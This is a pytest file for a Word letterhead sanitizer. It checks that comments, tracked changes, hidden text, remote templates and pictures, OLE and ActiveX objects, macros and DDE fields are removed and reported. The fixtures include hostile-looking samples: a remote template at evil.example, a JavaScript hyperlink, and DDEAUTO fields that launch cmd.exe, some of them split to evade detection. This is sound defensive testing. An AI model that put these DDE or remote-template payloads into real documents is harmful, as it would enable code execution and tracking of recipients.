"""What of a letterhead must not go out: it is not in the finished file, and the person is told."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import docx_samples as samples
import letterhead_parts
import letterheads
import pytest
from docx_office import findings
from docx_reading import Docx, unpacked
from letterhead_parts import control, field, letterhead, p, r, relation

from briefing.docx import notices, render
from briefing.errors import DataError, Severity
from briefing.theme import Theme

Try = Callable[[bytes], tuple[Docx, list[str]]]

FOR = 'w:author="Inner Person" w:date="2026-01-01T00:00:00Z"'
HIDE = "<w:vanish/>"
PICTURE = """<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/>
<wp:docPr id="1" name="Logo" descr="C:\\Users\\anna\\logo.png"/>
<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>
<pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {}/><a:stretch/></pic:blipFill>
<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"""  # fmt: skip
SHAPE = '<w:r><w:pict><v:shape><v:imagedata r:id="x1"/></v:shape></w:pict></w:r>'
MICROSOFT = "http://schemas.microsoft.com/office"
XML = "application/xml"
BINARY = "application/octet-stream"
GLOSSARY = f"<w:glossaryDocument {letterhead_parts.SPACES}>secret</w:glossaryDocument>"
COMMENTS = f"<w:comments {letterhead_parts.SPACES}><w:comment w:id='0' {FOR}>{p(r('secret'))}</w:comment></w:comments>"
PROPERTIES = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Owner">'
    '<lpwstr xmlns="urn:x">secret</lpwstr></property></Properties>'
)


@pytest.fixture
def put(theme: Theme, tmp_path: Path) -> Try:
    """Check a letterhead, and put a document into it; return the file and what the check said."""

    def make(blob: bytes) -> tuple[Docx, list[str]]:
        path = letterhead_parts.written(blob, tmp_path / "letterhead.docx")
        said = notices(path, theme)
        assert all(one.severity is Severity.WARNING and one.file == str(path) and one.hint for one in said)
        finished = render(samples.document(samples.paragraph("x")), theme, letterhead=path)
        (tmp_path / "done.docx").write_bytes(finished)
        return Docx(finished), [one.message for one in said]

    return make


def linked(kind: str, target: str = "file:///s/secret", *, external: bool = True) -> list[str]:
    return [relation(kind, target, identifier="x1", external=external)]


#: A letterhead of each kind, what must not be in any part of the finished file, and what is said.
ACTIVE: dict[str, tuple[bytes, str, str]] = {
    "comment": (
        letterhead(
            p(
                f'<w:commentRangeStart w:id="0"/>{r("Dear Sir")}<w:commentRangeEnd w:id="0"/>'
                '<w:r><w:commentReference w:id="0"/></w:r>'
            ),
            relations=linked("comments", "comments.xml", external=False),
            parts={"word/comments.xml": (f"{letterhead_parts.WML}.comments+xml", COMMENTS)},
        ),
        "secret|comment(Range|Reference)|Inner Person",
        "has 1 comment: left out",
    ),
    "deletion": (
        letterhead(p(f'<w:del w:id="1" {FOR}><w:r><w:delText>secret</w:delText></w:r></w:del>{r("y")}')),
        "secret|Inner Person",
        "has 1 tracked change: accepted",
    ),
    "insertion in a header": (
        letterhead(heads={"header default": p(f'<w:ins w:id="1" {FOR}>{r("y")}</w:ins>')}),
        "Inner Person",
        "has 1 tracked change: accepted",
    ),
    "move": (
        letterhead(
            p(
                f'<w:moveFromRangeStart w:id="1" w:name="m" {FOR}/>'
                f'<w:moveFrom w:id="2" {FOR}>{r("secret")}</w:moveFrom><w:moveFromRangeEnd w:id="1"/>{r("y")}'
            )
        ),
        "secret|Inner Person|moveFrom",
        "has 1 tracked change: accepted",
    ),
    "formatting": (
        letterhead(p(r("y", f'<w:b/><w:rPrChange w:id="1" {FOR}><w:rPr><w:i/></w:rPr></w:rPrChange>'))),
        "Inner Person|rPrChange",
        "has 1 tracked change: accepted",
    ),
    "deleted row": (
        letterhead(
            '<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="900"/></w:tblGrid>'
             f'<w:tr><w:trPr><w:del w:id="1" {FOR}/></w:trPr><w:tc>{p(r("secret"))}</w:tc></w:tr>'
             f"<w:tr><w:tc>{p(r('y'))}</w:tc></w:tr></w:tbl>"
        ),
        "secret|Inner Person",
        "has 1 tracked change: accepted",
    ),
    "hidden text": (letterhead(p(r("secret", HIDE) + r("y"))), "secret", "has 1 piece of hidden text"),
    "text hidden by a style of a style": (
        letterhead(p(r("secret", '<w:rStyle w:val="MoreSecret"/>') + r("y"))),
        "secret",
        "has 1 piece of hidden text",
    ),
    "hidden text in a footer": (
        letterhead(heads={"footer default": p(r("secret", '<w:vanish w:val="on"/>') + r("y"))}),
        "secret",
        "has 1 piece of hidden text",
    ),
    "remote template": (
        letterhead(
            settings='<w:attachedTemplate r:id="x1"/>',
            setting_relations=linked("attachedTemplate", "https://evil.example/x.dotm"),
        ),
        "evil|attachedTemplate",
        r"has 1 link to a template \(https://evil.example/x.dotm\)",
    ),
    "mail merge": (
        letterhead(
            settings='<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
            '<w:connectString w:val="secret"/><w:dataSource r:id="x1"/></w:mailMerge>',
            setting_relations=linked("mailMergeSource"),
        ),
        "secret|mailMerge",
        "has 1 source of a mail merge",
    ),
    "document variable": (
        letterhead(settings='<w:docVars><w:docVar w:name="Owner" w:val="secret"/></w:docVars>'),
        "secret",
        r"has 1 document variable \(Owner\)",
    ),
    "custom property": (
        letterhead(
            own_relations=linked("custom-properties", "docProps/custom.xml", external=False),
            parts={"docProps/custom.xml": (XML, PROPERTIES)},
        ),
        "secret|docProps/custom",
        r"has 1 custom property \(Owner\)",
    ),
    "custom data": (
        letterhead(
            relations=linked("customXml", "../customXml/item1.xml", external=False),
            parts={"customXml/item1.xml": (XML, "<a>secret</a>")},
        ),
        "secret|customXml/",
        "has 1 set of custom XML data",
    ),
    "remote picture": (
        letterhead(p(PICTURE.format('r:link="x1"')), relations=linked("image", "http://evil.example/1.png")),
        "evil|blip",
        r"has 1 picture that is kept elsewhere \(http://evil.example/1.png\)",
    ),
    "remote picture in a header": (
        letterhead(
            heads={"header default": p(SHAPE + r("y"))},
            head_relations=linked("image", "http://evil.example/1.png"),
        ),
        "evil|imagedata",
        "has 1 picture that is kept elsewhere",
    ),
    "remote picture without a relation": (
        letterhead(p('<w:r><w:pict><v:shape><v:imagedata src="\\\\evil\\1.png"/></v:shape></w:pict></w:r>')),
        "evil",
        "has 1 picture that is kept elsewhere",
    ),
    "object": (
        letterhead(
            p('<w:r><w:object><v:shape/><o:OLEObject Type="Embed" ProgID="Package" r:id="x1"/></w:object></w:r>'),
            relations=linked("oleObject", "embeddings/o.bin", external=False),
            parts={"word/embeddings/o.bin": (BINARY, b"secret")},
        ),
        "secret|OLEObject",
        "has 1 embedded or linked file",
    ),
    "linked object": (
        letterhead(
            p('<w:r><w:object><v:shape/><o:OLEObject Type="Link" r:id="x1"/></w:object></w:r>'),
            relations=linked("oleObject"),
        ),
        "secret|OLEObject",
        r"has 1 embedded or linked file \(file:///s/secret\)",
    ),
    "ActiveX control": (
        letterhead(
            p('<w:r><w:object><v:shape/><w:control r:id="x1" w:name="b"/></w:object></w:r>'),
            relations=linked("control", "activeX/a.xml", external=False),
            parts={"word/activeX/a.xml": (XML, "<a>secret</a>")},
        ),
        "secret|w:control",
        "has 1 ActiveX control",
    ),
    "chunk": (
        letterhead(
            '<w:altChunk r:id="x1"/>',
            relations=linked("aFChunk", "chunk.html", external=False),
            parts={"word/chunk.html": ("text/html", b"<b>secret</b>")},
        ),
        "secret|altChunk",
        "has 1 file to be merged in",
    ),
    "subdocument": (
        letterhead('<w:p><w:subDoc r:id="x1"/></w:p>', relations=linked("subDocument")),
        "secret|subDoc ",
        "has 1 file to be merged in",
    ),
    "link to a share": (
        letterhead(p(f'<w:hyperlink r:id="x1">{r("y")}</w:hyperlink>'), relations=linked("hyperlink", "\\\\secret\\s")),
        "secret|w:hyperlink",
        "has 1 link to a file or program",
    ),
    "link to a script": (
        letterhead(
            p(f'<w:hyperlink r:id="x1">{r("y")}</w:hyperlink>'), relations=linked("hyperlink", "JavaScript:secret()")
        ),
        "secret",
        "has 1 link to a file or program",
    ),
    "add-in": (
        letterhead(
            own_relations=linked(
                f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "we.xml", external=False
            ),
            parts={"we.xml": (XML, "<a>secret</a>")},
        ),
        "secret",
        "has 1 command or add-in",
    ),
    "ribbon": (
        letterhead(
            own_relations=linked(
                f"{MICROSOFT}/2006/relationships/ui/extensibility", "ui.xml", external=False
            ),
            parts={"ui.xml": (XML, "<a>secret</a>")},
        ),
        "secret",
        "has 1 command or add-in",
    ),
    "printer": (
        letterhead(
            section='<w:printerSettings r:id="x1"/>',
            relations=linked("printerSettings", "printer.bin", external=False),
            parts={"word/printer.bin": (BINARY, b"secret")},
        ),
        "secret|printerSettings",
        "",
    ),
    "people": (
        letterhead(
            relations=linked(f"{MICROSOFT}/2011/relationships/people", "people.xml", external=False),
            parts={"word/people.xml": (XML, "<a>secret</a>")},
        ),
        "secret",
        "",
    ),
    "building blocks": (
        letterhead(
            relations=linked("glossaryDocument", "glossary/document.xml", external=False),
            parts={"word/glossary/document.xml": (f"{letterhead_parts.WML}.document.glossary+xml", GLOSSARY)},
        ),
        "secret",
        "",
    ),
    "a kind of tomorrow": (
        letterhead(
            relations=linked(f"{MICROSOFT}/2031/relationships/moods", "moods.xml", external=False),
            parts={"word/moods.xml": (XML, "<a>secret</a>")},
        ),
        "secret",
        r"has 1 part of another kind \(moods\)",
    ),
    "an outside kind of tomorrow": (
        letterhead(relations=linked(f"{MICROSOFT}/2031/relationships/moods")),
        "secret",
        r"has 1 part of another kind \(file:///s/secret\)",
    ),
    "marks of data in the text": (
        letterhead(
            p(f'<w:smartTag w:uri="urn:x" w:element="person"><w:smartTagPr><w:attr w:name="id" w:val="secret"/>'
              f'</w:smartTagPr>{r("y")}</w:smartTag>')
            + f'<w:customXml w:element="secret">{p(r("y"))}</w:customXml>'
        ),
        "secret",
        "",
    ),
    "editor": (
        letterhead(p(f'<w:permStart w:id="5" w:ed="anna@secret"/>{r("y")}<w:permEnd w:id="5"/>')),
        "secret|permEnd",
        r"has 1 named editor \(anna@secret\)",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", ACTIVE)
def test_what_must_not_leave_does_not_leave_silently(put: Try, tmp_path: Path, case: str) -> None:
    blob, gone, message = ACTIVE[case]
    assert re.search(gone.encode(), b"".join(unpacked(blob).values()))
    file, said = put(blob)
    for name, content in file.blobs.items():
        assert not re.search(gone.encode(), content), name
        assert not re.search(gone, name)
    assert [bool(re.match(message, one)) for one in said] == ([True] if message else [])
    assert findings(tmp_path / "done.docx") == []


def test_what_is_ordinary_stays_and_nothing_is_said(put: Try) -> None:
    link = f'<w:hyperlink r:id="x1">{r("our site")}</w:hyperlink>'
    blob = letterhead(
        p(
            link
            + field(" PAGE ", shows="1")
            + field(' HYPERLINK "https://mfa.example" ', shows="site")
            + r("z", "<w:b/>")
        )
        + p(r("shown", '<w:vanish w:val="0"/>'))
        + p(control("goog_rdk_0", r("made by a program"))),
        relations=[relation("hyperlink", "https://mfa.example/", identifier="x1", external=True)],
        settings='<w:documentProtection w:edit="readOnly" w:enforcement="0"/>',
    )
    file, said = put(blob)
    assert said == []
    assert file.value("string(w:body)").startswith("our site PAGE 1 HYPERLINK ")
    assert "shown" in file.value("string(w:body)")
    assert file.find("//w:hyperlink")


def test_picture_with_a_copy_inside_loses_only_its_link(put: Try) -> None:
    blob = letterhead(
        p(PICTURE.format('r:embed="x2" r:link="x1"')),
        relations=[*linked("image"), relation("image", "media/a.png", identifier="x2")],
        parts={"word/media/a.png": ("image/png", letterheads.logo())},
    )
    file, said = put(blob)
    assert [str(one) for one in file.find("//a:blip/@r:embed")] == ["x2"]
    assert file.find("//a:blip/@r:link") == []
    assert "word/media/a.png" in file.names
    assert len(said) == 1
    assert file.attribute("//wp:docPr/@descr") == "logo.png"  # not the folder that it came from


def test_objects_keep_their_picture(put: Try) -> None:
    file, _ = put(ACTIVE["object"][0])
    assert len(file.find("//w:object/v:shape")) == 1


@pytest.mark.parametrize(
    ("before", "shown", "name"),
    [
        (field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "", "DDEAUTO"),
        (field(" dde ", "excel", shows="7"), "7", "DDE"),
        (field("D", "DEA", "UTO cmd", shows="7"), "7", "DDEAUTO"),
        (field("IncludePicture ", '"http://e/1.png"', shows="7"), "7", "INCLUDEPICTURE"),
        (field("INCLUDETEXT a.docx", shows="7"), "7", "INCLUDETEXT"),
        (field("LINK Excel.Sheet.8 a.xlsx", shows="7"), "7", "LINK"),
        (field("DATABASE \\d a", shows="7"), "7", "DATABASE"),
        (field("MACROBUTTON NoMacro [Click here]"), "", "MACROBUTTON"),
        (field('HYPERLINK "file://s/secret"', shows="7"), "7", "HYPERLINK"),
        (field('HYPERLINK \\t "_blank" "file://s/secret"', shows="7"), "7", "HYPERLINK"),
        (field('HYPERLINK \\l "a" \\\\s\\secret', shows="7"), "7", "HYPERLINK"),
        (field("NEWFIELD of 2031", shows="7"), "7", "NEWFIELD"),
        (field(field("QUOTE 68 68 69", shows="DDE"), " cmd", shows="7"), "7", "CMD"),
        (field("D", field("QUOTE", shows="D"), "E cmd", shows="7"), "7", "DE"),
        (field("IF 1 = 1 ", field("DDE x", shows="a"), shows="b"), "IF 1 = 1 ab", "DDE"),
        (f'<w:fldSimple w:instr=" dDe cmd ">{r("7")}</w:fldSimple>', "7", "DDE"),
        (f'<w:fldSimple w:instr="MERGEFIELD Name">{r("7")}</w:fldSimple>', "7", "MERGEFIELD"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("story", ["body", "header", "text box"])
def test_fields_that_run_or_fetch_become_the_text_that_they_show(
    put: Try, before: str, shown: str, name: str, story: str
) -> None:
    box = f"<v:textbox><w:txbxContent>{p(before)}</w:txbxContent></v:textbox>"
    box = f"<w:r><w:pict><v:shape>{box}</v:shape></w:pict></w:r>"
    body = {"body": p(before), "text box": p(box), "header": ""}[story] + p(r("y"))
    head = p(before) if story == "header" else p(r("z"))
    blob = letterhead(body, heads={"header default": head + p(r("z"))})
    file, said = put(blob)
    assert [one for one in said if f"({name})" in one] == said != []
    root = file.xml("word/header1.xml") if story == "header" else file.document
    assert file.value("string(//w:p[1])", root) == shown


def test_text_before_a_deleted_end_of_paragraph_joins_the_next(put: Try) -> None:
    ended = f'<w:rPr><w:del w:id="1" {FOR}/></w:rPr>'
    file, _ = put(letterhead(p(r("Ministry "), ended) + p(r("of Testing"), '<w:jc w:val="center"/>') + p(r("end"))))
    [first, *_] = file.lines()
    assert first.text == "Ministry of Testing"
    assert len(file.find("//w:p[1]/w:pPr/w:jc")) == 1


def test_bookmark_that_ends_in_deleted_text_still_ends(put: Try) -> None:
    gone = f'<w:del w:id="9" {FOR}><w:r><w:delText>secret</w:delText></w:r><w:bookmarkEnd w:id="4"/></w:del>'
    file, _ = put(letterhead(p(f'<w:bookmarkStart w:id="4" w:name="a"/>{r("y")}{gone}')))
    assert len(file.find("//w:bookmarkStart")) == len(file.find("//w:bookmarkEnd")) == 1


@pytest.mark.parametrize("kind", ["relation", "content"])
def test_macros_under_another_name_are_refused(put: Try, kind: str) -> None:
    content = "_VBA_PROJECT".encode("utf-16-le") if kind == "content" else b"x"
    word = f"{MICROSOFT}/2006/relationships/vbaProject" if kind == "relation" else "image"
    blob = letterhead(relations=linked(word, "a.dat", external=False), parts={"word/a.dat": (BINARY, content)})
    with pytest.raises(DataError, match="has macros"):
        put(blob)


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ('<w:documentProtection w:edit="readOnly" w:enforcement="1"/>', r"has 1 protection \(readOnly\)"),
        ('<w:documentProtection w:edit="forms" w:enforcement="true"/>', r"has 1 protection \(forms\)"),
        ('<w:writeProtection w:recommended="1"/>', "has 1 request to open it read-only"),
    ],
)
def test_protection_of_the_letterhead_is_said(put: Try, settings: str, message: str) -> None:
    file, said = put(letterhead(settings=settings))
    assert [bool(re.match(message, one)) for one in said] == [True]
    assert len(file.find("//w:documentProtection | //w:writeProtection", file.xml("word/settings.xml"))) == 1


def test_binding_to_data_that_went_goes_and_that_to_the_title_stays(put: Try) -> None:
    def bound(tag: str, mapping: str) -> str:
        return control(tag, r("y"), f'<w:dataBinding w:prefixMappings="{mapping}" w:xpath="/a" w:storeItemID="{{0}}"/>')

    core = "xmlns:a='http://schemas.openxmlformats.org/package/2006/metadata/core-properties'"
    file, _ = put(letterhead(p(bound("one", core) + bound("two", ""))))
    assert [str(one) for one in file.find("//w:sdt[.//w:dataBinding]//w:tag/@w:val")] == ["one"]


def test_each_kind_is_said_once_with_its_number(put: Try) -> None:
    _, said = put(letterhead(p(r("a", HIDE) + r("x")) + p(r("b", HIDE) + r("y")) + p(field("DDE a") + field("LINK b"))))
    assert [one.partition(":")[0] for one in said] == [
        "has 2 pieces of hidden text",
        "has 2 fields that can run or fetch something (DDE, LINK)",
    ]


# ---------------------------------------------------------------------------------------- hidden by something else


def test_text_is_hidden_by_the_usual_style_and_by_that_of_its_table(put: Try) -> None:
    ruled = '<w:pStyle w:val="Ruled"/>'
    table = "<w:tbl><w:tblPr><w:tblStyle w:val='Dark'/></w:tblPr><w:tblGrid><w:gridCol w:w='900'/></w:tblGrid>"
    table += f"<w:tr><w:tc><w:tcPr/>{p(r('secret'), ruled)}</w:tc></w:tr></w:tbl>"
    styles = (
        '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/>'
        "<w:rPr><w:vanish/></w:rPr></w:style>"
        '<w:style w:type="paragraph" w:styleId="Ruled"><w:name w:val="Ruled"/></w:style>'
        f'<w:style w:type="table" w:styleId="Dark"><w:name w:val="Dark"/><w:rPr>{HIDE}</w:rPr></w:style>'
    )
    shown = p(r("shown"), ruled)
    blob = letterhead(p(r("secret")) + table + shown, styles=styles)
    file, said = put(blob)
    assert "secret" not in file.value("string(w:body)")
    assert "shown" in file.value("string(w:body)")
    assert said == ["has 2 pieces of hidden text: left out of the papers"]


def test_hidden_drawing_and_mark_of_a_hidden_note_go(put: Try) -> None:
    hidden = PICTURE.format('r:embed="x2"').replace('name="Logo"', 'name="Logo" hidden="true"')
    note = f"<w:footnotes {letterhead_parts.SPACES}><w:footnote w:id='3'>{p(r('secret'))}</w:footnote></w:footnotes>"
    blob = letterhead(
        p(hidden + f'<w:r><w:rPr>{HIDE}</w:rPr><w:footnoteReference w:id="3"/></w:r>'),
        relations=[
            relation("image", "media/a.png", identifier="x2"),
            relation("footnotes", "footnotes.xml", identifier="x3"),
        ],
        parts={
            "word/media/a.png": ("image/png", letterheads.logo()),
            "word/footnotes.xml": (f"{letterhead_parts.WML}.footnotes+xml", note),
        },
    )
    file, said = put(blob)
    assert said == ["has 2 pieces of hidden text: left out of the papers"]
    assert b"secret" not in b"".join(file.blobs.values())
    assert "word/media/a.png" not in file.names


def test_row_whose_cells_were_all_deleted_goes(put: Try) -> None:
    cell = f"<w:tc><w:tcPr><w:cellDel w:id='4' {FOR}/></w:tcPr>{p(r('secret'))}</w:tc>"
    table = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='900'/></w:tblGrid><w:tr>{cell}{cell}</w:tr></w:tbl>"
    file, _ = put(letterhead(p(r("Ministry")) + table))
    assert file.find("w:body/w:tbl[not(w:tr)] | w:body/w:tbl/w:tr[not(w:tc)]") == []
    assert "secret" not in file.value("string(w:body)")


@pytest.mark.parametrize("kind", ["text/html", BINARY, "application/pdf"])
def test_picture_that_is_none_goes(put: Try, kind: str) -> None:
    blob = letterhead(
        p(PICTURE.format('r:embed="x2"')),
        relations=[relation("image", "media/a.bin", identifier="x2")],
        parts={"word/media/a.bin": (kind, b"MZ secret")},
    )
    file, said = put(blob)
    assert said == ["has 1 part of another kind (image): left out of the papers"]
    assert b"secret" not in b"".join(file.blobs.values())
